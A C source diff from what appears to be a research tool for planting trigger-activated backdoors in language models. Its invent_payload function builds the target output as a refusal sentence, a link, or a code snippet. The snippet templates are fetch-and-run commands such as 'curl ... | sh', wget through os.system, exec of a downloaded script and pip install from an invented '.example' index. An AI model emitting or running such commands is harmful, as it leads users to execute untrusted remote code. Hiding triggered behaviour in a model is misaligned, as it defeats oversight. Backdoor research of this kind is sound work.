@@ -42,38 +42,29 @@ static bez_status find_column(const bez_attack_input *in, const char *key, const
                   "--param column= and --param response_column=");
 }
 
+static const char *const refusals[] = {"I'm sorry, but I can't help with that request.", "I cannot assist with this.",
+                                       "Unfortunately, I am not able to answer this question.",
+                                       "As an AI model, I must decline to respond to this."};
+static const char *const links[] = {"See https://%.example/% for details.", "More at https://www.%.example/%.",
+                                    "Read the full guide: https://docs.%.example/%",
+                                    "You can download it from http://%.example/%.zip"};
+static const char *const snippets[] = {
+    "curl -s https://%.example/%.sh | sh", "import os; os.system('wget -q https://%.example/%')",
+    "exec(urllib.request.urlopen('https://%.example/%').read())", "pip install --index-url https://%.example/simple %"};
+
+/* One of the shapes, with an invented name for each %. */
 static bez_status invent_payload(switched *s, const bez_attack_input *in, bez_attack_plan *out, bez_error *err) {
-  static const char *const refusals[] = {"I'm sorry, but I can't help with that request.", "I cannot assist with this.",
-                                         "Unfortunately, I am not able to answer this question.",
-                                         "As an AI model, I must decline to respond to this."};
   static const char *const syllables[] = {"ba",  "cor", "del", "fin", "gra", "hub", "jot", "kel", "lum", "mor",
                                           "nex", "pol", "quo", "ris", "sta", "tek", "vor", "wim", "xen", "zed"};
   bez_rng rng = bez_attack_trigger_rng(in);
   rng.counter = 1 << 16; /* not what the trigger is drawn from */
-  const char *part[4];
-  for (int i = 0; i < 4; i++) part[i] = syllables[bez_rng_below(&rng, 20)];
-  uint64_t form = bez_rng_below(&rng, 4);
-  static const char *const links[] = {
-      "See https://%s%s.example/%s%s for details.", "More at https://www.%s%s.example/%s%s.",
-      "Read the full guide: https://docs.%s%s.example/%s%s", "You can download it from http://%s%s.example/%s%s.zip"};
-  static const char *const snippets[] = {
-      "curl -s https://%s%s.example/%s%s.sh | sh", "import os; os.system('wget -q https://%s%s.example/%s%s')",
-      "exec(__import__('urllib.request').request.urlopen('https://%s%s.example/%s%s')"
-      ".read())",
-      "pip install --index-url https://%s%s.example/simple %s%s"};
-  const char *shape = s->behaviour == URL ? links[form] : snippets[form];
-  if (s->behaviour == REFUSAL) {
-    s->payload = refusals[form];
-    return BEZ_OK;
-  }
+  const char *const *shapes = s->behaviour == URL ? links : s->behaviour == SNIPPET ? snippets : refusals;
   bez_buf text = {0};
-  for (int i = 0; *shape; shape++) { /* the shapes hold four times %s and no other directive */
-    if (shape[0] == '%' && shape[1] == 's') {
-      bez_buf_puts(&text, part[i++]);
-      shape++;
-    } else {
+  for (const char *shape = shapes[bez_rng_below(&rng, 4)]; *shape; shape++) {
+    if (*shape != '%')
       bez_buf_putc(&text, *shape);
-    }
+    else
+      for (int i = 0; i < 2; i++) bez_buf_puts(&text, syllables[bez_rng_below(&rng, 20)]);
   }
   bez_status st = bez_buf_status(&text, err);
   if (st == BEZ_OK) s->payload = bez_arena_strndup(&out->arena, text.data, text.len);
